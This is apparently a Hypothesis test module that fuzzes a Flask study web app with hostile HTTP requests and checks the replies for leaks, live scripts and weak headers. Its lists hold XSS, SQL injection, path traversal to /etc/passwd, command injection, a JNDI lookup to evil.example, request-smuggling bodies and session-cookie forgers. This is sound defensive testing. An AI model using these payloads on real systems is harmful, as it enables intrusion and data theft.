"""Hostile requests, made by hypothesis and sent on many connections, and checks of the replies."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass, field, replace
from urllib.parse import quote_from_bytes

from flask import Flask
from flask.sessions import SecureCookieSessionInterface
from hypothesis import strategies as st

from tests.support.wire import FORM, Pair, Reply, Request, Wire, say

# ---- What attackers know and say ----------------------------------------------------------------


@dataclass(frozen=True)
class World:
    """What the attackers know.

    Attributes
    ----------
    url : str
    names : tuple of str
        Fields of this study's trials.
    cookies : tuple of bytes
        Their own cookies, and forged and damaged ones.
    tokens : tuple of bytes
        CSRF tokens, their own and other people's.
    visits, honest : tuple of bytes
        The names of visits in forms: everybody's, and honest raters'.
    mine : tuple of (bytes, bytes, bytes)
        Their own cookies, tokens and visits that belong together.
    secrets : tuple of bytes
        What no answer to the attackers may contain.
    """

    url: str
    names: tuple[str, ...]
    cookies: tuple[bytes, ...]
    tokens: tuple[bytes, ...]
    visits: tuple[bytes, ...]
    honest: tuple[bytes, ...]
    mine: tuple[tuple[bytes, bytes, bytes], ...]
    secrets: tuple[bytes, ...]


# Ids that are accepted although they look like something else.
STRANGE_IDS = (
    "admin",
    "..",
    "_--",
    "null",
    "True",
    "0",
    "a@b:c+d",
    "٣٣٣",
    "ａｄｍｉｎ",
    "ß",
    "İ",
    "𝔞" * 128,
    "constructor",
    "1e309",
    "_-1",
    "名前",
    "rater:live",
    "a.b",
)
MARK = b"zzxss"
SCRIPTS = (
    b"<script>zzxss()</script>",
    b'"><svg/onload=zzxss()>',
    b"'><b zzxss>",
    b"javascript:zzxss()",
    b'" onfocus=zzxss() autofocus="',
    b"</textarea><script>zzxss()</script>",
    b"]]><zzxss>",
)
NASTY = (
    *SCRIPTS,
    b"",
    b"left",
    b"right",
    b"1",
    b"2",
    b"3",
    b"4",
    b"0",
    b"{{7*7191}}zzxss",
    b"${7*7191}zzxss",
    b"#{7*7191}zzxss",
    b"{%print(7*7191)%}zzxss",
    b"%(config)s",
    b"%s%n",
    b"' OR '1'='1",
    b"'; DROP TABLE visits; --",
    b'" OR ""="',
    b"1 UNION SELECT * FROM settings",
    b"'||(SELECT value FROM settings)||'",
    b"1; SELECT pg_sleep(60)",
    b"\\'; --",
    b"%' --",
    b"\x00",
    b"a\x00b",
    b"1\x00",
    b"\x01\x02\x7f",
    b"\xed\xa0\x80",
    b"\xff\xfe",
    b"\xc0\xaf",
    b"\xf4\x90\x80\x80",
    b"\xe2\x80\xaetxt.exe",
    b"\xe2\x81\xa6\xe2\x80\x8f",
    b"\xef\xbb\xbf",
    b"\xd9\xa3",
    b"\xef\xbc\x91",
    b"\xc2\xb2",
    b"\xe2\x91\xa0",
    b"\xf0\x9f\x98\x80" * 40,
    b"-1",
    b"+1",
    b" 1",
    b"1 ",
    b"1\n",
    b"01",
    b"1_0",
    b"1e9",
    b"0x1",
    b"1.0",
    b"NaN",
    b"Infinity",
    b"9" * 400,
    b"2147483648",
    b"9223372036854775808",
    b"-9223372036854775809",
    b"999999999",
    b"true",
    b"null",
    b"[]",
    b"{}",
    b"[object Object]",
    b"__proto__",
    b"../../../../etc/passwd",
    b"..\\..\\app.py",
    b"%2e%2e/%2e%2e/app.py",
    b"%00",
    b"%",
    b"%zz",
    b"/etc/passwd",
    b"file:///etc/passwd",
    b".ratify-secret",
    b"study.sqlite3",
    b"....//....//",
    b"\r\nSet-Cookie: zzxss=1",
    b"\n\n<script>zzxss()</script>",
    b"//evil.example/zz",
    b"https://evil.example",
    b"\\\\evil.example",
    b"/\\evil.example",
    b"http:evil.example",
    b"$(id)",
    b"`id`",
    b";id",
    b"|id",
    b"=cmd|' /C calc'!A0",
    b"${jndi:ldap://evil.example/a}",
    b"A" * 3000,
    b"judgments",
    b"participants",
    b"csv",
    b"parquet",
)
PATHS = (
    b"/",
    b"/consent",
    b"/instructions",
    b"/comprehension",
    b"/trial",
    b"/done",
    b"/over",
    b"/declined",
    b"/withdrawn",
    b"/withdraw/%s",
    b"/withdraw/%s/%s",
    b"/health",
    b"/static/%s",
    b"/static/style.css",
    b"/static/trial.js",
    b"/dashboard",
    b"/dashboard/",
    b"/dashboard/%s",
    b"/dashboard/sign-in",
    b"/dashboard/sign-out",
    b"/dashboard/set-up",
    b"/dashboard/pause",
    b"/dashboard/resume",
    b"/dashboard/release",
    b"/dashboard/tables.zip",
    b"/dashboard/tables/%s.csv",
    b"/dashboard/tables/participants.csv",
    b"/dashboard/CODEBOOK.md",
    b"/dashboard/tables/%s.%s",
    b"/dashboard/report",
    b"/dashboard//%s",
    b"//%s",
    b"//trial",
    b"/%s",
    b"/trial/",
    b"/trial;%s",
    b"/./trial",
    b"/static/../%s",
    b"/.git/config",
    b"/%s/%s",
)
FIELDS = (
    "csrf_token",
    "visit",
    "position",
    "choice",
    "response_ms",
    "hidden_ms",
    "option",
    "attempt",
    "most",
    "least",
    "why",
    "warmth",
    "depth",
    "password",
    "again",
    "token",
    "key",
    "export",
    "rater_id",
    "session_id",
    "_method",
    "__proto__",
    "mode",
)
PARAMETERS = (
    b"rater",
    b"PROLIFIC_PID",
    b"STUDY_ID",
    b"SESSION_ID",
    b"token",
    b"format",
    b"next",
    b"url",
    b"lang",
    b"_method",
    b"csrf_token",
    b"visit",
    b"position",
)
METHODS = (
    b"GET",
    b"POST",
    b"HEAD",
    b"OPTIONS",
    b"PUT",
    b"PATCH",
    b"DELETE",
    b"TRACE",
    b"FOO",
    b"get",
    b"post",
    b"PROPFIND",
)
HOSTS = (
    b"evil.example",
    b"evil.example:80",
    b"localhost",
    b"127.0.0.1:1",
    b"[::1]",
    b"[::::]",
    b"[]",
    b"a:99999",
    b"a:",
    b"a..b",
    b".",
    b"xn--a",
    b"a" * 64,
    b"a." * 300,
    b"evil.example/x",
    b"@b",
    b"study.example@evil.example",
    b"a b",
    b"<script>zzxss()</script>",
    b"\xff",
    b"a,b",
    b"a#b",
    b"[fe80::1%25eth0]",
    b"[1.2.3.4]",
    b"study.example.",
    b"_",
    b"0",
    b"\xd1\x8f.example",
)
HEADERS = (
    b"X-Forwarded-For",
    b"X-Forwarded-Host",
    b"X-Forwarded-Proto",
    b"X-Forwarded-Port",
    b"Via",
    b"X-Forwarded-Prefix",
    b"X-Real-IP",
    b"X-Original-URL",
    b"X-Rewrite-URL",
    b"Referer",
    b"Origin",
    b"X-HTTP-Method-Override",
    b"Accept-Language",
    b"Accept",
    b"Range",
    b"If-Range",
    b"User-Agent",
    b"If-None-Match",
    b"If-Modified-Since",
    b"Authorization",
    b"X-CSRFToken",
    b"Script-Name",
    b"Content-Encoding",
    b"Accept-Encoding",
    b"Cache-Control",
    b"X-CSRF-Token",
    b"Upgrade",
    b"Forwarded",
)
VALUES = (
    b"127.0.0.1",
    b"evil.example",
    b"https",
    b"bytes=99999999-",
    b"bytes=5-1",
    b"bytes=0-0,2-3",
    b"Thu, 01 Jan 99999 99:99:99 GMT",
    b'W/"' + b"a" * 500,
    b"Basic \xff",
    b"for=evil;host=evil",
    b"de;q=nan, ar, <script>zzxss()</script>",
    b"gzip",
    b"websocket",
    b"/dashboard/",
    b"DELETE",
)
TYPES = (
    FORM,
    FORM + b"; charset=utf-7",
    b"application/json",
    b"text/plain",
    b"multipart/form-data",
    b"multipart/form-data; boundary=",
    b"multipart/form-data; boundary=\xff",
    b"multipart/mixed",
    b"multipart/form-data; boundary=" + b"b" * 3000,
    b"text/xml",
    b"\xff/\xff",
    b"a",
    b";;;=",
)


def damaged(cookie: bytes) -> list[bytes]:
    """Return a signed cookie, changed in every way that a server might still accept."""
    name, _, value = cookie.partition(b"=")
    payload, stamp, signature = value.rsplit(b".", 2)
    values = [
        payload,
        payload + b"." + stamp,
        payload + b".." + signature,
        b"." + value,
        b"..",
        payload + b"." + stamp + b".",
        payload + b".AAAAAA." + signature,
        value[:-1],
        value + b"A",
        b"." + payload + b"." + stamp + b"." + signature,
        payload[:-2] + b"." + stamp + b"." + signature,
        value.swapcase(),
        value.replace(b".", b"%2E"),
        b'"' + value[:40] + b'"',
        b"\xff",
        b"e30." + stamp + b"." + signature,
        b"",
        b"=" * 50,
        value[::-1],
        value * 20,
    ]
    return [name + b"=" + other for other in values]


def forged(cookie: bytes, sessions: Sequence[Mapping[str, object]]) -> list[bytes]:
    """Return cookies that are signed, but with keys that only look like the server's."""
    made = []
    for key in ("", "dev", "secret", "ratify", ".ratify-secret"):
        app = Flask("forger")
        app.secret_key = key or " "
        signer = SecureCookieSessionInterface().get_signing_serializer(app)
        assert signer is not None
        made += [cookie.partition(b"=")[0] + b"=" + signer.dumps(s).encode() for s in sessions]
    return made


# ---- Requests -----------------------------------------------------------------------------------

_word = st.one_of(
    st.sampled_from(NASTY),
    st.sampled_from(SCRIPTS),
    st.text(max_size=8).map(lambda text: text.encode("utf-8", "surrogatepass")),
    st.binary(max_size=8),
)
_CONTROLS = re.compile(rb"[\x00-\x08\x0a-\x1f\x7f]")


def _escaped(word: bytes) -> bytes:
    return quote_from_bytes(word, safe="/:@!$'()*,;~").encode()


def _value(word: bytes) -> bytes:
    """Return the part of a word that a header may contain."""
    return _CONTROLS.sub(b"", word).strip(b" \t")


def _filled(pattern: bytes, words: Sequence[bytes]) -> bytes:
    pieces = pattern.split(b"%s")
    found = pieces[0]
    for piece, word in zip(pieces[1:], words, strict=False):
        found += _escaped(word) + piece
    return found


_query = st.lists(st.tuples(st.sampled_from(PARAMETERS), _word), max_size=3).map(
    lambda pairs: b"&".join(name + b"=" + _escaped(word) for name, word in pairs)
)
_targets = st.builds(
    lambda pattern, one, two, query: _filled(pattern, (one, two)) + (query and b"?" + query),
    st.sampled_from(PATHS),
    _word,
    _word,
    _query,
)
_header = st.one_of(
    st.tuples(st.just(b"Host"), st.sampled_from(HOSTS)),
    st.tuples(st.sampled_from(HEADERS), st.one_of(st.sampled_from(VALUES), _word).map(_value)),
    st.tuples(st.just(b"Cookie"), _word.map(_value)),
)


def _one_host(headers: Sequence[Pair]) -> tuple[Pair, ...]:
    """Keep only the first Host, because a request with two is not HTTP."""
    hosts = [pair for pair in headers if pair[0] == b"Host"][:1]
    return (*hosts, *(pair for pair in headers if pair[0] != b"Host"))


_headers = st.lists(_header, max_size=2).map(_one_host)
Fields = list[Pair]


def _url_encoded(fields: Fields) -> tuple[bytes, bytes]:
    pairs = (name + b"=" + quote_from_bytes(value, safe="").encode() for name, value in fields)
    return FORM, b"&".join(pairs)


def _raw_form(fields: Fields) -> tuple[bytes, bytes]:
    return FORM, b"&".join(name + b"=" + value for name, value in fields)


def _multipart(fields: Fields) -> tuple[bytes, bytes]:
    head = b'--zz\r\nContent-Disposition: form-data; name="%s"\r\n\r\n%s\r\n'
    body = b"".join(head % pair for pair in fields) + b"--zz--\r\n"
    return b"multipart/form-data; boundary=zz", body


def _as_files(fields: Fields) -> tuple[bytes, bytes]:
    head = b'--zz\r\nContent-Disposition: form-data; name="%s"; filename="a/../%s"\r\n\r\nx\r\n'
    body = b"".join(head % (name, _CONTROLS.sub(b"", value)) for name, value in fields)
    return b"multipart/form-data; boundary=zz", body + b"--zz--\r\n"


def _many(fields: Fields) -> tuple[bytes, bytes]:
    return _multipart([*fields, *[(b"zz", b"")] * 900])


_WRITERS = (_url_encoded,) * 6 + (_raw_form, _multipart, _multipart, _as_files, _many)


def _answers(world: World) -> st.SearchStrategy[Fields]:
    """Return forms that are nearly right: each field is right, wrong or missing."""
    few = st.sampled_from((b"1", b"2", b"3"))
    plain: dict[str, st.SearchStrategy[bytes]] = {
        "position": st.sampled_from((b"1", b"2", b"3", b"4")),
        "response_ms": st.just(b"1200"),
        "hidden_ms": st.just(b""),
        "choice": st.sampled_from((b"left", b"right")),
        "why": _word,
    }
    fields = ("position", "response_ms", "hidden_ms", *world.names)
    wrong = st.lists(st.tuples(st.sampled_from(fields), _word), min_size=1, max_size=2)
    return st.tuples(
        st.tuples(*(plain.get(name, few) for name in fields)),
        st.one_of(st.just([]), wrong),
        st.sampled_from((*fields, *world.names, *[""] * len(fields))),
        st.booleans(),
    ).map(lambda drawn: _spoilt(fields, *drawn))


def _spoilt(
    fields: Sequence[str],
    values: Sequence[bytes],
    wrong: Sequence[tuple[str, bytes]],
    gone: str,
    twice: bool,
) -> Fields:
    right = dict(zip(fields, values, strict=True))
    form = {**right, **dict(wrong)}
    made = [(name.encode(), value) for name, value in form.items() if name != gone]
    return made + [(name.encode(), right[name]) for name, _ in wrong if twice]


def _from_my_visit(world: World) -> st.SearchStrategy[Request]:
    """Answer in the attacker's own visit; these requests reach the store."""

    def build(
        mine: tuple[bytes, bytes, bytes], fields: Fields, path: bytes, writer: Writer
    ) -> Request:
        cookie, token, visit = mine
        kind, body = writer([(b"csrf_token", token), (b"visit", visit), *fields])
        headers = ((b"Cookie", cookie), (b"Content-Type", kind))
        return Request(b"POST", path, headers, body)

    extra = st.tuples(st.sampled_from((b"option", b"attempt", b"why")), _word)
    fields = st.builds(
        lambda form, more: [*form, *more], _answers(world), st.lists(extra, max_size=2)
    )
    paths = st.sampled_from((b"/trial",) * 6 + (b"/comprehension", b"/consent", b"/withdraw/x"))
    return st.builds(build, st.sampled_from(world.mine), fields, paths, st.sampled_from(_WRITERS))


Writer = Callable[[Fields], tuple[bytes, bytes]]


def _from_another_visit(world: World) -> st.SearchStrategy[Request]:
    """Answer for somebody else, with a cookie, a token and a visit that do not belong together."""

    def build(
        person: tuple[bytes, bytes], visit: bytes, fields: Fields, path: bytes, writer: Writer
    ) -> Request:
        cookie, token = person
        kind, body = writer([(b"csrf_token", token), (b"visit", visit), *fields])
        return Request(b"POST", path, ((b"Cookie", cookie), (b"Content-Type", kind)), body)

    mine = st.sampled_from([(cookie, token) for cookie, token, _ in world.mine])
    mixed = st.tuples(st.sampled_from(world.cookies), st.sampled_from(world.tokens))
    return st.builds(
        build,
        st.one_of(mine, mine, mixed),
        st.one_of(st.sampled_from(world.honest), st.sampled_from(world.visits)),
        _answers(world),
        st.sampled_from((b"/trial",) * 4 + (b"/consent", b"/comprehension", b"/dashboard/pause")),
        st.sampled_from(_WRITERS),
    )


def _anything(world: World) -> st.SearchStrategy[Request]:
    """Ask for any page with any method and any headers."""
    field = st.tuples(st.sampled_from(FIELDS).map(str.encode), _word)
    cookies = st.sampled_from((*world.cookies, b""))

    def build(
        method: bytes,
        target: bytes,
        headers: tuple[Pair, ...],
        cookie: bytes,
        fields: Fields,
        writer: Writer,
        kind: bytes | None,
        token: bytes,
        chunked: bool,
    ) -> Request:
        if cookie:
            headers = (*headers, (b"Cookie", cookie))
        if method.upper() in {b"GET", b"HEAD", b"OPTIONS", b"TRACE"}:
            return Request(method, target, headers)
        written, body = writer([(b"csrf_token", token), *fields])
        headers = (*headers, (b"Content-Type", kind or written))
        return Request(method, target, headers, body, chunked)

    return st.builds(
        build,
        st.sampled_from((b"GET",) * 10 + (b"POST",) * 8 + METHODS),
        _targets,
        _headers,
        cookies,
        st.lists(field, max_size=3),
        st.sampled_from(_WRITERS),
        st.sampled_from((*TYPES, *[None] * 20)),
        st.sampled_from(world.tokens),
        st.booleans(),
    )


def _noise(world: World) -> st.SearchStrategy[Request]:
    """Send bytes that are not HTTP, or broken HTTP."""
    words = st.one_of(_word, st.sampled_from((b"\r\n", b"\n", b"\r", b" ", b"\t", b":", b"\x00")))

    def broken(request: Request, cuts: list[tuple[int, int, bytes]]) -> Request:
        data = request.encode()
        for start, size, word in cuts:
            place = start % (len(data) + 1)
            data = data[:place] + word + data[place + size :]
        return replace(request, raw=data or b"\r\n", valid=False)

    def odd(line: bytes, lengths: Sequence[bytes], body: bytes) -> Request:
        lines = [line, b"Host: study.example", *lengths, b"", body]
        return Request(b"GET", b"/", raw=b"\r\n".join(lines), valid=False)

    cut = st.tuples(st.integers(0, 400), st.integers(0, 40), words)
    lengths = st.lists(st.sampled_from(_ODD_LENGTHS), max_size=2)
    some = st.one_of(_anything(world), _from_my_visit(world).map(_small))
    return st.one_of(
        st.builds(broken, some, st.lists(cut, min_size=1, max_size=4)),
        st.builds(odd, st.sampled_from(_ODD_LINES), lengths, st.sampled_from(_ODD_BODIES)),
        st.binary(min_size=1, max_size=60).map(
            lambda data: Request(b"GET", b"/", raw=data + b"\r\n\r\n", valid=False)
        ),
    )


def _small(request: Request) -> Request:
    return replace(request, body=(request.body or b"")[:2000])


_ODD_LINES = (
    b"POST /consent HTTP/1.1",
    b"POST /trial HTTP/1.1",
    b"GET /",
    b"GET",
    b"",
    b"GET / HTTP/9.9",
    b"GET http://evil.example/dashboard//sign-in HTTP/1.1",
    b"CONNECT evil.example:80 HTTP/1.1",
    b"GET http://[/ HTTP/1.1",
    b"OPTIONS * HTTP/1.1",
    b"GET  /  HTTP/1.1",
    b"GET /\xff HTTP/1.1",
    b"GET /<script>zzxss()</script> HTTP/1.1",
    b"<script>zzxss()</script> / HTTP/1.1",
    b"PRI *",
    b"GET /" + b"a/" * 5000 + b" HTTP/1.1",
    b"GET /?" + b"a=b&" * 3000 + b" HTTP/1.1",
)
_ODD_LENGTHS = (
    b"Content-Length: 5",
    b"Content-Length: 3",
    b"Content-Length: -1",
    b"Content-Length: +5",
    b"Content-Length: 1e3",
    b"Content-Length: 5, 5",
    b"Content-Length: \xd9\xa3",
    b"Content-Length: 99999999999999999999999",
    b"Content-Length: 70000",
    b"Content-Length: 5\x00",
    b"Transfer-Encoding: chunked",
    b"Transfer-Encoding: gzip",
    b"Transfer-Encoding: chunked, gzip",
    b"Transfer-Encoding:\x0bchunked",
    b"Transfer-Encoding : chunked",
    b"Host: second.example",
    b"Expect: 100-continue",
    b"Expect: \xff",
    b"Cookie: " + b"a=b;" * 4000,
    b"X: a\r\n b",
    b"X",
    b"X-" + b"a" * 9000 + b": b",
    b"Connection: close",
    b"Connection: keep-alive, upgrade",
    b": b",
)
_ODD_BODIES = (
    b"",
    b"abcde",
    b"0\r\n\r\n",
    b"5\r\nabcde\r\n0\r\n\r\n",
    b"zz\r\nabcde\r\n0\r\n\r\n",
    b"-5\r\nabcde\r\n0\r\n\r\n",
    b"ffffffffffffffffff\r\nabcde",
    b"5;" + b"a" * 3000 + b"\r\nabcde",
    b"5\r\nabcdeXX0\r\n\r\n",
    b"0\r\nX: y\r\n\r\n",
    b"0\r\n\r\nGET /dashboard/ HTTP/1.1\r\nHost: a\r\n\r\n",
)


def requests(world: World) -> st.SearchStrategy[Request]:
    """Return every kind of hostile request."""
    mine, foreign, other = _from_my_visit(world), _from_another_visit(world), _anything(world)
    return st.one_of(mine, mine, foreign, foreign, other, other, other, _noise(world))


# ---- What no answer may show --------------------------------------------------------------------

_LIVE = re.compile(
    rb"<script>zz|<svg/onload|<b zz|<zzxss|\"javascript:zz|\" onfocus=zz|50337zz|</textarea><script"
)
_INNARDS = (b"Traceback (most recent", b'.py"', b"sqlalchemy", b"psycopg", b"werkzeug")
# The web server repeats a line that it cannot read, as plain text: the words are the attacker's.
_SAID_BACK = re.compile(rb'(?s)in header line ".*?"\r\n\r\n\(generated by server\)')
# The names of items mean nothing to a rater, and may reveal where an item comes from.
_ITEM = re.compile(rb"\b(?:job|home)-\d")
# Servers may say that they do not know a transfer coding; only invalid requests use one.
_UNKNOWN = {501, 505}


def faults(world: World, request: Request, reply: Reply) -> list[str]:
    """Return what is wrong with the reply to a hostile request."""
    found = []
    failed = reply.status == 0 or reply.status >= 500
    if failed and (request.valid or reply.status not in _UNKNOWN):
        found.append(f"status {reply.status}")
    everything = reply.body + repr(reply.headers).encode()
    if script := live_script(reply):
        found.append(f"live script: {script!r}")
    if seen := _ITEM.search(everything):
        found.append(f"an item by name: {seen[0]!r}")
    own = _SAID_BACK.sub(b"", everything)
    found += [f"innards: {word!r}" for word in _INNARDS if word in own]
    found += [f"a secret: {word!r}" for word in world.secrets if word in everything]
    if request.valid and reply.status:
        found += _header_faults(reply)
    return found


def live_script(reply: Reply) -> bytes | None:
    """Return the part of a reply that a browser would run, or None if all of it is text."""
    body = reply.body
    if not reply.headers:  # the body holds whole replies; plain text is not run
        parts = re.split(rb"(?=HTTP/1\.[01] \d{3})", body)
        body = b"".join(part for part in parts if b"Content-Type: text/plain" not in part)
    everything = body + repr(reply.headers).encode()
    seen = _LIVE.search(everything) if MARK in everything else None
    return None if seen is None else seen[0]


def _header_faults(reply: Reply) -> Iterator[str]:
    location = reply.get("location")
    if location and not re.match(r"/(?![/\\])", location):
        yield f"a redirect off site: {location}"
    if 300 <= reply.status < 400 and reply.status not in {303, 304}:
        yield f"a redirect that is not ours: {reply.status}"
    if reply.get("strict-transport-security"):
        yield "a plain connection that was taken for TLS"
    if reply.body[:15].lower() == b"<!doctype html>":  # the server's own refusals are shorter
        if "default-src 'none'" not in reply.get("content-security-policy"):
            yield "a page without a content security policy"
        if reply.get("x-content-type-options") != "nosniff":
            yield "a page whose type may be guessed"
    for cookie in reply.all("set-cookie"):
        if not (cookie.startswith("ratify_") and "HttpOnly" in cookie and "SameSite=Lax" in cookie):
            yield f"a cookie that is not ours, or is not protected: {cookie}"


# ---- Sending ------------------------------------------------------------------------------------


def as_others(world: World, request: Request, number: int) -> list[Request]:
    """Return the same request with two of the attackers' other cookies, in turn."""
    if request.raw or not request.valid:
        return []
    kept = tuple(pair for pair in request.headers if pair[0].lower() != b"cookie")
    cookies = [world.cookies[(number + step) % len(world.cookies)] for step in (0, 1)]
    return [replace(request, headers=(*kept, (b"Cookie", cookie))) for cookie in cookies]


@dataclass
class Crew:
    """Several connections; a reply is checked when its connection is needed again."""

    world: World
    hands: int = 4
    sent: int = 0
    found: list[str] = field(default_factory=list)
    statuses: dict[int, int] = field(default_factory=dict)

    def __post_init__(self) -> None:
        self._wires = [Wire(self.world.url) for _ in range(self.hands)]
        self._under_way: list[Request | None] = [None] * self.hands
        self._known: set[bytes] = set()

    def throw(self, request: Request) -> None:
        """Send a request, unless the same one has been sent."""
        data = request.encode()
        if data in self._known:
            return
        self._known.add(data)
        self.sent += 1
        if not request.valid:
            self._judge(request, say(self.world.url, data))
            return
        hand = self.sent % self.hands
        self._settle(hand)
        self._wires[hand].send(data)
        self._under_way[hand] = request

    def finish(self) -> None:
        """Check the replies that are still to come, and hang up."""
        for hand, wire in enumerate(self._wires):
            self._settle(hand)
            wire.close()

    def _settle(self, hand: int) -> None:
        request = self._under_way[hand]
        if request is not None:
            self._under_way[hand] = None
            reply = self._wires[hand].read(head=request.method.upper() == b"HEAD")
            self._judge(request, reply)

    def _judge(self, request: Request, reply: Reply) -> None:
        self.statuses[reply.status] = self.statuses.get(reply.status, 0) + 1
        wrong = faults(self.world, request, reply)
        if wrong:
            told = f"{wrong}\n  to {request.encode()[:1500]!r}\n  came {reply.body[:300]!r}"
            self.found.append(told)
